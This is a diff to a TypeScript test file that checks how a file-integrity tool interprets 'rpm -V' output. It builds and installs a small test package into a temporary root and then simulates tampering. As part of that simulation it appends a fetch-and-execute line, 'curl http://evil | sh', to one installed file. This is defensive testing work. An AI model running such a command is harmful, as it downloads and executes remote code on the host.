@@ -1,13 +1,19 @@
 // rpm systems: "file properties changed" warnings triaged with `rpm -V -f`
 // beside dpkg --verify. The parser and the verdicts are pure and tested on
-// rpm's output (fixtures: rpm is not installed here); the check on a RHEL 9
-// sysroot (rkh-rhel) says why it does not cross-check: rpm -V runs on the
-// live system only, and a live system without the rpm program is said so.
+// rpm's output: fixtures from RHEL, and the REAL rpm (Debian package rpm:
+// rpm 4.18 with rpmbuild) verifying a tiny package built and installed into
+// a temp root's own database (--root/--dbpath: never this machine's). The
+// check on a RHEL 9 sysroot (rkh-rhel) says why it does not cross-check:
+// rpm -V runs on the live system only (under --root it would write its
+// sqlite journal into the tree), and a live system without rpm is said so.
 
 import test from 'ava';
 import * as fs from 'node:fs';
 import * as path from 'node:path';
+import { spawnSync } from 'node:child_process';
+import * as os from 'node:os';
 import { rpmPropertiesVerdict, UPGRADE_NOISE, POSSIBLE_TAMPERING } from '../../checks/rkhunter/judge';
+import { interpretRpmVerify, rpmVerifyArgv } from '../../checks/rkhunter/package-verify';
 import { rkhLastScan } from '../../checks/rkhunter/last-scan';
 import { rkhWarnings } from '../../checks/rkhunter/warnings';
 import { parseRpmVerify, rpmContentDiffers } from '../../src/parse/rpm-verify';
@@ -52,6 +58,16 @@ test('lines rpm -V never prints are kept with their line number; the parser neve
   for (const s of ['', '\n\n', 'missing', 'file  is not owned by any package', 'S'.repeat(10000), '\uffff\ud800']) t.notThrows(() => parseRpmVerify(s, s));
 });
 
+test('rpm -V errors on a file it cannot look at (stderr): that file is "not verified", never silence read as a match', (t) => {
+  const stderr = 'error: file /usr/bin/gone: No such file or directory\n';
+  const out = parseRpmVerify('S.5....T.    /usr/bin/ls\n', stderr);
+  t.deepEqual([...out.failed], [['/usr/bin/gone', 'No such file or directory']]);
+  const lookup = interpretRpmVerify({ stdout: '', stderr, exitCode: 1, timedOut: false }, 'rpm -V …');
+  t.is(lookup.error, null);
+  const v = rpmPropertiesVerdict('/usr/bin/gone', 'hash', { output: lookup.output!, command: 'rpm -V …' });
+  t.deepEqual([v.status, v.label, v.why], ['warn', 'not verified', 'hash changed; rpm -V could not look at it (No such file or directory): check it by hand']);
+});
+
 test('verdicts from rpm -V: digest/size/missing → possible tampering; mode/owner only → attributes; silence → upgrade noise; unowned; untestable', (t) => {
   const lookup = { output: parseRpmVerify(fixture('rpm-V-rhel9.txt')), command: 'rpm -V --nodeps --noscripts -f <6 files>' };
   const v = (p: string) => {
@@ -78,6 +94,11 @@ test('a RHEL sysroot: EPEL log location read; changed files not cross-checked un
   const last = await run(rkhLastScan, root, ctx);
   t.is(last.status, 'pass', last.summary);
   t.regex(last.summary, /\/var\/log\/rkhunter\/rkhunter.log/);
+  // Live refresh: the log the checks read there is one the scheduler watches (EPEL's LOGFILE).
+  const logFile = last.evidence[0]?.file ?? '';
+  t.is(logFile, '/var/log/rkhunter/rkhunter.log');
+  t.true(rkhLastScan.watch?.includes(logFile));
+  t.true(rkhWarnings.watch?.includes(logFile));
 
   const f = await run(rkhWarnings, root, ctx);
   t.is(f.status, 'warn');
@@ -104,4 +125,85 @@ test('a RHEL sysroot: EPEL log location read; changed files not cross-checked un
       'hash changed; not cross-checked: an rpm system without the rpm program',
     ],
   );
+});
+
+// ---------------------------------------------------------------------------
+// The real rpm: a package built with rpmbuild, installed into a temp root.
+
+function sh(cmd: string, args: string[]): { code: number | null; stdout: string; stderr: string } {
+  const r = spawnSync(cmd, args, { encoding: 'utf8', timeout: 120_000, env: { PATH: '/usr/sbin:/usr/bin:/sbin:/bin', LANG: 'C', HOME: os.tmpdir() } });
+  return { code: r.status, stdout: r.stdout ?? '', stderr: r.stderr ?? '' };
+}
+
+const rpmMissing = process.geteuid?.() !== 0 ? 'installing into a root needs root' : !fs.existsSync('/usr/bin/rpm') || !fs.existsSync('/usr/bin/rpmbuild') ? 'rpm and rpmbuild are not installed (Debian package rpm)' : null;
+const withRpm = rpmMissing ? test.skip : test;
+if (rpmMissing) test('real rpm -V skipped', (t) => t.log(rpmMissing));
+
+const FILES = ['/usr/bin/hardtop-edited', '/usr/bin/hardtop-chmod', '/usr/bin/hardtop-same', '/usr/bin/hardtop-deleted'];
+
+withRpm('the real rpm -V on a package installed into a temp root: edited → tampering, chmod → attributes, untouched → noise, deleted → tampering, unowned and absent → unverifiable', (t) => {
+  const top = fs.mkdtempSync(path.join(os.tmpdir(), 'hardtop-rpm-'));
+  t.teardown(() => fs.rmSync(top, { recursive: true, force: true }));
+  const install = FILES.map((f) => `printf '#!/bin/sh\\necho %s\\n' > %{buildroot}${f}\nchmod 755 %{buildroot}${f}`).join('\n');
+  const spec = [
+    'Name: hardtop-probe',
+    'Version: 1.0',
+    'Release: 1',
+    'Summary: hardtop test package',
+    'License: MIT',
+    'BuildArch: noarch',
+    '%description',
+    'Files for rpm -V.',
+    '%install',
+    'mkdir -p %{buildroot}/usr/bin',
+    install,
+    '%files',
+    ...FILES,
+    '',
+  ].join('\n');
+  fs.writeFileSync(path.join(top, 'probe.spec'), spec);
+  const built = sh('rpmbuild', ['--define', `_topdir ${top}/build`, '--define', '__os_install_post %{nil}', '--define', 'debug_package %{nil}', '-bb', path.join(top, 'probe.spec')]);
+  t.is(built.code, 0, built.stderr);
+  const pkg = path.join(top, 'build/RPMS/noarch/hardtop-probe-1.0-1.noarch.rpm');
+  t.true(fs.existsSync(pkg));
+
+  // A root with its own rpm database (sqlite, /var/lib/rpm inside it).
+  const root = path.join(top, 'root');
+  fs.mkdirSync(root);
+  const db = ['--root', root, '--dbpath', '/var/lib/rpm'];
+  t.is(sh('rpm', [...db, '--initdb']).code, 0);
+  const inst = sh('rpm', [...db, '-i', '--nodeps', '--noscripts', '--nosignature', pkg]);
+  t.is(inst.code, 0, inst.stderr);
+  t.true(fs.existsSync(path.join(root, 'usr/bin/hardtop-same')));
+
+  // What an intruder (or an admin) did after the install.
+  fs.appendFileSync(path.join(root, 'usr/bin/hardtop-edited'), 'curl http://evil | sh\n');
+  fs.chmodSync(path.join(root, 'usr/bin/hardtop-chmod'), 0o700);
+  fs.rmSync(path.join(root, 'usr/bin/hardtop-deleted'));
+  fs.mkdirSync(path.join(root, 'usr/local/bin'), { recursive: true });
+  fs.writeFileSync(path.join(root, 'usr/local/bin/helper'), 'mine\n');
+
+  // Exactly the arguments the check gives rpm on a live system, pointed at the temp root's database.
+  const asked = [...FILES, '/usr/local/bin/helper', '/usr/bin/never-there'];
+  const r = sh('rpm', [...db, ...rpmVerifyArgv(asked)]);
+  t.log(`rpm -V exit ${r.code}\n${r.stdout}${r.stderr}`);
+  const command = 'rpm -V --nodeps --noscripts -f <6 files>';
+  const lookup = interpretRpmVerify({ stdout: r.stdout, stderr: r.stderr, exitCode: r.code, timedOut: false }, command);
+  t.is(lookup.error, null);
+  const output = lookup.output!;
+  t.deepEqual(output.unread, []);
+  const v = (p: string) => {
+    const x = rpmPropertiesVerdict(p, 'hash', { output, command });
+    return [x.status, x.label];
+  };
+  t.regex(output.differs.get('/usr/bin/hardtop-edited')?.flags ?? '', /^S\.5\.\.\.\.[.T]\.$/); // T only when the edit lands in another second
+  t.deepEqual(v('/usr/bin/hardtop-edited'), ['fail', POSSIBLE_TAMPERING]);
+  t.is(output.differs.get('/usr/bin/hardtop-chmod')?.flags, '.M.......');
+  t.deepEqual(v('/usr/bin/hardtop-chmod'), ['warn', 'attributes changed']);
+  t.false(output.differs.has('/usr/bin/hardtop-same'));
+  t.deepEqual(v('/usr/bin/hardtop-same'), ['warn', UPGRADE_NOISE]);
+  t.is(output.differs.get('/usr/bin/hardtop-deleted')?.flags, 'missing');
+  t.deepEqual(v('/usr/bin/hardtop-deleted'), ['fail', POSSIBLE_TAMPERING]);
+  t.deepEqual(v('/usr/local/bin/helper'), ['warn', 'not verifiable']);
+  t.deepEqual(v('/usr/bin/never-there'), ['warn', 'not verified']);
 });
